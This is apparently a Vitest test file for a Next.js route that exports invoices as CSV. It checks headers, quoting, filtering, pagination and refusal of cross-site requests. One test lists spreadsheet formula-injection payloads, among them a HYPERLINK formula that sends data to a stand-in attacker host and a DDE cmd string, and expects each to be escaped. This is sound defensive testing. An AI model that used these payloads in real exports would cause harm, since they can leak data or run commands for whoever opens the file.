import type { Invoice } from '@monoshop/api-invoices/contract';
import { NextRequest } from 'next/server';
import type { RequestListener } from 'node:http';
import { describe, expect, it } from 'vitest';
import { createParts, sendStatus } from '../testing/gateway-fixture.ts';
import { startApi } from '../testing/scripted-api.ts';
import { invoicesRoute } from './api-routes.ts';
import { createGateway } from './gateway.ts';
import { presentAsFile } from './invoice-download.ts';

const HEADER = 'Invoice,Customer,Issued,Status,Amount,Currency\r\n';

const invoice = (id: string, customer: string, issuedOn: string, more: Partial<Invoice> = {}): Invoice => ({
  id,
  customer,
  issuedOn,
  amount: { amountMinor: 40_050, currency: 'USD' },
  status: 'paid',
  ...more,
});

const sendInvoices =
  (invoices: Invoice[]): RequestListener =>
  (_request, response) => {
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ invoices }));
  };

async function download(listener: RequestListener, search = '', headers: Record<string, string> = {}) {
  const api = await startApi(listener);
  const request = new NextRequest(`http://localhost:3000/api/invoices/csv${search}`, { headers });
  const { parts } = createParts(api.baseUrl);
  const response = await createGateway(parts)(request, invoicesRoute, presentAsFile(request));
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, text: new TextDecoder().decode(bytes), api };
}

const INVOICES = [
  invoice('INV-001', 'Northwind Studio', '2026-08-03'),
  invoice('INV-002', 'Harbour Books', '2026-08-17', { status: 'pending' }),
  invoice('INV-003', 'Cedar Clinic', '2026-09-02', { amount: { amountMinor: 1200, currency: 'JPY' } }),
];

describe('the download of invoices', () => {
  it('is a file that no cache keeps, with amounts as a machine reads them', async () => {
    const { response, text } = await download(sendInvoices(INVOICES));
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="monoshop-invoices.csv"',
      'cache-control': 'private, no-store',
    });
    expect(response.headers.has('monoshop-first-of-more')).toBe(false);
    expect(text).toBe(
      `${HEADER}INV-003,Cedar Clinic,2026-09-02,paid,1200,JPY\r\n` +
        'INV-002,Harbour Books,2026-08-17,pending,400.50,USD\r\n' +
        'INV-001,Northwind Studio,2026-08-03,paid,400.50,USD\r\n',
    );
  });

  it('begins with a byte order mark, without which Excel takes UTF-8 for the character set of the machine', async () => {
    const { bytes } = await download(sendInvoices(INVOICES));
    expect([...bytes.subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x49]);
  });

  it('holds what the query of the page asks for, in its order', async () => {
    const paid = await download(sendInvoices(INVOICES), '?status=paid&sort=oldest');
    expect(paid.text.match(/INV-\d+/g)).toEqual(['INV-001', 'INV-003']);
    const found = await download(sendInvoices(INVOICES), '?q=harbour');
    expect(found.text.match(/INV-\d+/g)).toEqual(['INV-002']);
    const none = await download(sendInvoices(INVOICES), '?q=unknown');
    expect(none.text).toBe(HEADER);
    const unreadable = await download(sendInvoices(INVOICES), '?status=__proto__&sort=%00');
    expect(unreadable.text.match(/INV-\d+/g)).toHaveLength(3);
  });

  it('quotes commas, quotes and line breaks, so that each invoice stays one row (RFC 4180)', async () => {
    const { text } = await download(
      sendInvoices([invoice('INV-001', 'Smith, "Sons"\r\n& Co', '2026-08-03')]),
    );
    expect(text).toBe(`${HEADER}INV-001,"Smith, ""Sons""\r\n& Co",2026-08-03,paid,400.50,USD\r\n`);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/"&A1)', `"'=HYPERLINK(""http://evil.example/""&A1)"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', `"'\r'=1"`],
    ['\n=1', `"'\n'=1"`],
    ['\uFF1D1', "'\uFF1D1"],
    ['A;=1', "A;'=1"],
    ['A\n@SUM(A1)', `"A\n'@SUM(A1)"`],
    ['A=1; -2', 'A=1; -2'],
  ])('D15 has no cell that a spreadsheet would compute: %j', async (customer, cell) => {
    const { text } = await download(sendInvoices([invoice('INV-001', customer, '2026-08-03')]));
    expect(text).toBe(`${HEADER}INV-001,${cell},2026-08-03,paid,400.50,USD\r\n`);
  });

  it('says in its name and in a header that it is made of the first of more invoices', async () => {
    let page = 0;
    const { response, text } = await download((_request, answer) => {
      page += 1;
      const invoices = [invoice(`INV-00${page}`, 'Harbour Books', '2026-08-17')];
      answer.end(JSON.stringify({ invoices, next: `?cursor=${page}` }));
    });
    expect(text.match(/INV-\d+/g)).toHaveLength(4);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="monoshop-invoices-first-4.csv"',
    );
    expect(response.headers.get('monoshop-first-of-more')).toBe('4');
  });

  it('D05 is refused to another site, before the API is asked', async () => {
    const { response, text, api } = await download(sendInvoices(INVOICES), '', {
      'sec-fetch-site': 'cross-site',
    });
    expect(response.status).toBe(403);
    expect(text).toContain('cross_site_request');
    expect(api.requests).toEqual([]);
  });

  it('is problem details, and no file, when the API gives no data', async () => {
    const { response } = await download(
      sendStatus(403, { 'www-authenticate': 'Bearer error="insufficient_scope"' }),
    );
    expect(response.status).toBe(403);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(response.headers.has('content-disposition')).toBe(false);
  });
});
